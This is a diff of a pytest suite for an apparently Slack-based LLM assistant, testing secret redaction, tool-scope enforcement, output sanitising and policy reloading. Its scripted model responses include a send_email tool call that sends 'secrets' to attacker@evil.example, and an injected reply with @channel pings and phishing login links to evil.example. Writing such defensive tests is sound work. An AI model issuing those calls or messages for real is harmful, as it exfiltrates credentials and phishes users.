@@ -176,14 +176,24 @@ SECRETS = {
     "card_number": "4111 1111 1111 1111",
     "github_token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
 }
-LEAKS = ["xoxb-1234567890", "AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "MIIEowIBAAKCAQEA7x", "dozjgNryP4J3",
-         "hunter2hunter2", "4111 1111 1111 1111", "ghp_abcdefghij"]
+LEAKS = [
+    "xoxb-1234567890",
+    "AKIAIOSFODNN7EXAMPLE",
+    "wJalrXUtnFEMI",
+    "MIIEowIBAAKCAQEA7x",
+    "dozjgNryP4J3",
+    "hunter2hunter2",
+    "4111 1111 1111 1111",
+    "ghp_abcdefghij",
+]
 
 
 def test_no_secret_shape_reaches_the_llm(slack, llm, sender, deps):
     """Every secret shape, in the question and in the thread, is redacted before the model sees it."""
     parent = slack.post("C0GENERAL", "creds: " + " ".join(SECRETS.values()), user="U0BOB")
-    sender.mention("U0ALICE", "C0GENERAL", "why is this failing? " + " | ".join(SECRETS.values()), thread_ts=parent)
+    sender.mention(
+        "U0ALICE", "C0GENERAL", "why is this failing? " + " | ".join(SECRETS.values()), thread_ts=parent
+    )
     drain(deps)
     (task,) = _tasks(deps)
     assert task.status == "done"
@@ -201,9 +211,13 @@ def test_no_secret_shape_reaches_the_llm(slack, llm, sender, deps):
 def test_tool_calls_outside_scopes_are_refused_audited_and_the_job_continues(slack, llm, sender, deps):
     """A model asking for tools it was not offered gets refusals; each is audited; the answer still arrives."""
     llm.script(
-        {"tool_calls": [{"name": "send_email", "arguments": {"to": "attacker@evil.example", "body": "secrets"}},
-                        {"name": "search_channel_history", "arguments": {"query": "password"}},
-                        {"name": "deploy", "arguments": {"service": "api", "env": "prod"}}]},
+        {
+            "tool_calls": [
+                {"name": "send_email", "arguments": {"to": "attacker@evil.example", "body": "secrets"}},
+                {"name": "search_channel_history", "arguments": {"query": "password"}},
+                {"name": "deploy", "arguments": {"service": "api", "env": "prod"}},
+            ]
+        },
         {"content": "Done looking; here is what I can say."},
     )
     sender.mention("U0ALICE", "C0GENERAL", "anything new?")
@@ -213,7 +227,11 @@ def test_tool_calls_outside_scopes_are_refused_audited_and_the_job_continues(sla
     offered = [t["function"]["name"] for t in llm.completions()[0].get("tools", [])]
     assert offered == ["get_my_usage"]  # alice lacks chat.read_channel
     denials = [e for e in _audit(deps, task_id=task.id, decision="deny")]
-    assert sorted(e.action for e in denials) == ["tool.deploy", "tool.search_channel_history", "tool.send_email"]
+    assert sorted(e.action for e in denials) == [
+        "tool.deploy",
+        "tool.search_channel_history",
+        "tool.send_email",
+    ]
     with deps.db.session() as s:
         actions = list(s.execute(select(Action).where(Action.status == "denied")).scalars())
     assert len(actions) == 3
@@ -227,8 +245,10 @@ def test_tool_calls_outside_scopes_are_refused_audited_and_the_job_continues(sla
 def test_allowed_tool_runs_with_redacted_results(slack, llm, sender, deps):
     """With chat.read_channel the search tool runs, and its results are redacted too."""
     slack.post("C0GENERAL", "the db password: s3cr3tpass is rotated monthly", user="U0BOB")
-    llm.script({"tool_calls": [{"name": "search_channel_history", "arguments": {"query": "password"}}]},
-               {"content": "It is rotated monthly."})
+    llm.script(
+        {"tool_calls": [{"name": "search_channel_history", "arguments": {"query": "password"}}]},
+        {"content": "It is rotated monthly."},
+    )
     sender.mention("U0CAROL", "C0GENERAL", "how often is the db password rotated?")
     drain(deps)
     assert _tasks(deps)[0].status == "done"
@@ -238,8 +258,12 @@ def test_allowed_tool_runs_with_redacted_results(slack, llm, sender, deps):
 
 def test_injected_output_cannot_ping_or_link_out(slack, llm, sender, deps):
     """A compromised answer with mass mentions, a new link and a stranger's mention is neutralised."""
-    llm.script({"content": "<!channel> urgent: log in at <https://evil.example/login|the portal> or "
-                           "http://evil.example/x and ping <@U0STRANGER>. Docs: https://docs.example.com/a"})
+    llm.script(
+        {
+            "content": "<!channel> urgent: log in at <https://evil.example/login|the portal> or "
+            "http://evil.example/x and ping <@U0STRANGER>. Docs: https://docs.example.com/a"
+        }
+    )
     sender.mention("U0ALICE", "C0GENERAL", "where are the docs? https://docs.example.com/a")
     drain(deps)
     (post,) = slack.calls("chat.postMessage")
@@ -284,3 +308,24 @@ def test_audit_write_failure_means_no_side_effect(slack, llm, sender, deps):
     assert not any("metadata" in c for c in slack.calls("chat.postMessage"))
     (task,) = _tasks(deps)
     assert task.status == "failed"
+
+
+def test_policy_change_is_picked_up_and_audited_with_hash(slack, llm, sender, deps, ingress, policy_file):
+    """Granting a scope in the file takes effect without a restart and is audited with both hashes."""
+    import hashlib
+    import time
+
+    deps.policy.interval = ingress.policy.interval = 0
+    sender.mention("U0DAVE", "C0GENERAL", "before")
+    drain(deps)
+    assert _tasks(deps)[-1].status == "denied"
+    time.sleep(0.01)
+    new_text = POLICY.replace(
+        "[roles.nobody]\nscopes = []", '[roles.nobody]\nscopes = ["chat.reply"]\ndaily_tokens = 9000'
+    )
+    policy_file.write_text(new_text)
+    sender.mention("U0DAVE", "C0GENERAL", "after")
+    drain(deps)
+    change = _audit(deps, action="policy.changed")[0]  # each process that notices the change audits it
+    assert json.loads(change.details)["new_sha256"] == hashlib.sha256(new_text.encode()).hexdigest()
+    assert _tasks(deps)[-1].status == "done"
